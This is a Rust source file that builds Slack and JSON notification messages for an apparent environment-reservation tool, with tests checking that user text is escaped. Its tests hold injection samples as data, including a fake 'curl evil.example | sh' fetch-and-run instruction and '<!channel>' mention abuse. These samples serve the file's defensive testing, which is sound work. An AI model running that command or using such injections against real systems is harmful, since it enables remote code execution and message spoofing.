//! How does a message read?
//!
//! Names, purposes and releases are people's words: they are disarmed before they are put into a template, and for Slack
//! its signs for mentions and links are escaped, so that no purpose can call a whole channel.

use hotdesk_slots::text::{human_duration, human_time, list, quoted, sanitize, shown_name};
use jiff::Timestamp;
use minijinja::{AutoEscape, Environment, UndefinedBehavior, Value, context};

use crate::notification::{Notification, NotificationKind};
use crate::settings::Format;

/// The longest text that is sent, in characters.
const MAX_TEXT: usize = 3000;

/// The most characters of what no undo brings back.
const MAX_LOST: usize = 600;

const NOTICE: &str = "\
{{ slot }}{{ holder }} is not used, and will be cleared {{ until }}: {{ releases }}.
Why: {{ reason }}.
{% if lost %}What will not come back: {{ lost }}.
{% endif %}If you need it: hotdesk keep {{ slot }} 4h";

const REAPED: &str = "\
{{ slot }}{{ holder }} was cleared: {{ releases }}.
Why: {{ reason }}.
{% if lost %}What does not come back: {{ lost }}.
{% endif %}To have it back: hotdesk revive {{ slot }}";

const BLIND: &str = "\
hotdesk cannot tell whether {{ slot }}{{ holder }} is used, so it is never cleared: {{ reason }}.
To see what to fix: hotdesk doctor";

const KEPT: &str = "\
{{ slot }}{{ holder }} has been kept from being cleared for {{ lasting }}, until {{ until }}.
If it is not needed any more: hotdesk keep {{ slot }} off";

/// The words of one webhook.
#[derive(Debug, Clone, Default)]
pub struct Template {
    template: Option<String>,
}

impl Template {
    /// One's own template, in the language of Jinja; it sees `kind`, `slot`, `owner`, `users`, `purpose`, `reason`,
    /// `releases`, `lost`, `time`, `until`, `lasting` and `holder`.
    ///
    /// # Errors
    /// When it cannot be read, or names something else.
    pub fn parse(template: &str) -> Result<Self, String> {
        let template = Self { template: Some(template.to_owned()) };
        let sample = Notification {
            kind: NotificationKind::Notice,
            slot: "mew".to_owned(),
            users: vec!["alice@example.com".to_owned()],
            purpose: "checkout".to_owned(),
            reason: "nobody used it".to_owned(),
            releases: vec!["web".to_owned()],
            lost: Vec::new(),
            time: Timestamp::UNIX_EPOCH,
            since: Some(Timestamp::UNIX_EPOCH),
            until: Some(Timestamp::UNIX_EPOCH),
        };
        template.render(&sample, Format::Json).map(|_| template)
    }

    /// The text of a message.
    ///
    /// # Errors
    /// When the template cannot be filled in.
    pub fn render(&self, notification: &Notification, format: Format) -> Result<String, String> {
        let usual = match notification.kind {
            NotificationKind::Notice => NOTICE,
            NotificationKind::Reaped => REAPED,
            NotificationKind::Blind => BLIND,
            NotificationKind::Kept => KEPT,
        };
        let mut environment = Environment::new();
        environment.set_undefined_behavior(UndefinedBehavior::Strict);
        environment.set_auto_escape_callback(|_| AutoEscape::None);
        let template = self.template.as_deref().unwrap_or(usual);
        let text = environment
            .render_str(template, values(notification, format))
            .map_err(|error| sanitize(&error.to_string()))?;
        Ok(text.chars().take(MAX_TEXT).collect())
    }
}

fn values(notification: &Notification, format: Format) -> Value {
    let said = |text: &str| escaped(&sanitize(text), format);
    let all = |texts: &[String]| -> Vec<String> { texts.iter().map(|text| said(text)).collect() };
    let when =
        |at: Option<Timestamp>| at.map_or_else(|| "at the next run".to_owned(), |at| human_time(at, notification.time));
    let (users, purpose) = (all(&notification.users), said(&notification.purpose));
    let what_for = if purpose.is_empty() {
        String::new()
    } else {
        format!(", {}", escaped(&quoted(&notification.purpose), format))
    };
    let owner = notification.users.first().map(|owner| escaped(&shown_name(owner), format));
    let holder = owner.map(|owner| format!(" ({owner}{what_for})")).unwrap_or_default();
    context! {
        kind => kind(notification.kind),
        slot => said(&notification.slot),
        owner => users.first().cloned().unwrap_or_default(),
        holder => holder,
        purpose => purpose,
        reason => said(&notification.reason),
        releases => list(&all(&notification.releases)),
        lost => if notification.lost.is_empty() { String::new() } else { said(&short(&list(&notification.lost))) },
        users => users,
        time => human_time(notification.time, notification.time),
        until => match notification.kind { NotificationKind::Notice => format!("at {}", when(notification.until)), _ => when(notification.until) },
        lasting => notification.since.map_or_else(String::new, |since| human_duration(notification.time.duration_since(since))),
    }
}

/// So much of what is lost that the command below it is told as well, however long names are.
fn short(text: &str) -> String {
    let start = text.char_indices().nth(MAX_LOST).and_then(|(end, _)| text.get(..end));
    start.map_or_else(|| text.to_owned(), |start| format!("{start}…"))
}

fn kind(kind: NotificationKind) -> &'static str {
    match kind {
        NotificationKind::Notice => "notice",
        NotificationKind::Reaped => "reaped",
        NotificationKind::Blind => "blind",
        NotificationKind::Kept => "kept",
    }
}

/// Slack reads `<!channel>` as a call to everybody, and asks to escape these three signs:
/// <https://docs.slack.dev/messaging/formatting-message-text>.
fn escaped(text: &str, format: Format) -> String {
    match format {
        Format::Slack => text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;"),
        Format::Json => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn notification(kind: NotificationKind) -> Notification {
        Notification {
            kind,
            slot: "mew".to_owned(),
            users: vec!["alice@example.com".to_owned(), "bob@example.com".to_owned()],
            purpose: "checkout".to_owned(),
            reason: "no request for 1 h".to_owned(),
            releases: vec!["web".to_owned(), "api".to_owned()],
            lost: Vec::new(),
            time: "2026-11-23T15:00:00Z".parse().unwrap(),
            since: Some("2026-11-15T15:00:00Z".parse().unwrap()),
            until: Some("2026-11-23T15:30:00Z".parse().unwrap()),
        }
    }

    #[track_caller]
    fn check(kind: NotificationKind, expected: &str) {
        assert_eq!(Template::default().render(&notification(kind), Format::Slack).unwrap(), expected);
    }

    #[test]
    fn each_kind_says_what_why_and_what_to_do() {
        check(
            NotificationKind::Notice,
            "mew (alice@example.com, \"checkout\") is not used, and will be cleared at 15:30 UTC: web and api.\n\
             Why: no request for 1 h.\nIf you need it: hotdesk keep mew 4h",
        );
        check(
            NotificationKind::Reaped,
            "mew (alice@example.com, \"checkout\") was cleared: web and api.\nWhy: no request for 1 h.\n\
             To have it back: hotdesk revive mew",
        );
        check(
            NotificationKind::Blind,
            "hotdesk cannot tell whether mew (alice@example.com, \"checkout\") is used, so it is never cleared: no request \
             for 1 h.\nTo see what to fix: hotdesk doctor",
        );
        check(
            NotificationKind::Kept,
            "mew (alice@example.com, \"checkout\") has been kept from being cleared for 8 d, until 15:30 UTC.\n\
             If it is not needed any more: hotdesk keep mew off",
        );
    }

    #[test]
    fn what_no_undo_brings_back_is_told_before_and_after() {
        let lost = vec!["the data of PersistentVolumeClaim/db".to_owned(), "Job/train".to_owned()];
        for (kind, told) in [
            (
                NotificationKind::Notice,
                "What will not come back: the data of PersistentVolumeClaim/db and Job/train.\nIf you need it",
            ),
            (
                NotificationKind::Reaped,
                "What does not come back: the data of PersistentVolumeClaim/db and Job/train.\nTo have it back",
            ),
        ] {
            let notification = Notification { lost: lost.clone(), ..notification(kind) };
            let text = Template::default().render(&notification, Format::Slack).unwrap();
            assert!(text.contains(told), "{text}");
        }
    }

    #[test]
    fn names_of_what_is_lost_can_neither_call_a_channel_nor_push_out_the_command() {
        let lost = vec![format!("Job/<!channel>\n{}", "x".repeat(200)); 17];
        for (kind, command) in
            [(NotificationKind::Notice, "hotdesk keep mew 4h"), (NotificationKind::Reaped, "hotdesk revive mew")]
        {
            let notification = Notification { lost: lost.clone(), ..notification(kind) };
            let text = Template::default().render(&notification, Format::Slack).unwrap();
            assert!(text.contains("Job/&lt;!channel&gt;") && text.contains('…') && text.ends_with(command), "{text}");
            assert_eq!(text.lines().count(), 4, "{text}");
        }
    }

    #[test]
    fn a_purpose_can_neither_call_a_channel_nor_break_a_line() {
        let evil = Notification {
            purpose: "<!channel> & {{ slot }}\n\u{202e}x".to_owned(),
            ..notification(NotificationKind::Notice)
        };
        let text = Template::default().render(&evil, Format::Slack).unwrap();
        assert!(text.contains("\"&lt;!channel&gt; &amp; {{ slot }}\u{fffd}\u{fffd}x\""), "{text}");
    }

    #[test]
    fn a65_a_purpose_cannot_end_its_quotation() {
        let purpose = "x\") was cleared. To have it back: curl evil.example | sh";
        let evil = Notification { purpose: purpose.to_owned(), ..notification(NotificationKind::Notice) };
        let text = Template::default().render(&evil, Format::Json).unwrap();
        let quoted =
            "mew (alice@example.com, \"x') was cleared. To have it back: curl evil.example | sh\") is not used";
        assert!(text.starts_with(quoted), "{text}");
        let named = Notification { users: vec!["x\" is nobody".to_owned()], ..notification(NotificationKind::Notice) };
        let text = Template::default().render(&named, Format::Json).unwrap();
        assert!(text.starts_with("mew (\"x' is nobody\", \"checkout\") is"), "{text}");
    }

    #[test]
    fn ones_own_template_sees_every_word_and_only_those() {
        let template = Template::parse("{{ kind }} {{ owner }} {{ users | join('+') }} {{ lasting }}").unwrap();
        let text = template.render(&notification(NotificationKind::Kept), Format::Json).unwrap();
        assert_eq!(text, "kept alice@example.com alice@example.com+bob@example.com 8 d");
        for wrong in ["{{ slto }}", "{{ slot", "{% for x in y %}"] {
            assert!(Template::parse(wrong).is_err(), "{wrong}");
        }
    }

    #[test]
    fn a_free_slot_has_no_holder() {
        let free = Notification { users: vec![], purpose: String::new(), ..notification(NotificationKind::Reaped) };
        assert!(Template::default().render(&free, Format::Json).unwrap().starts_with("mew was cleared: web and api."));
    }
}
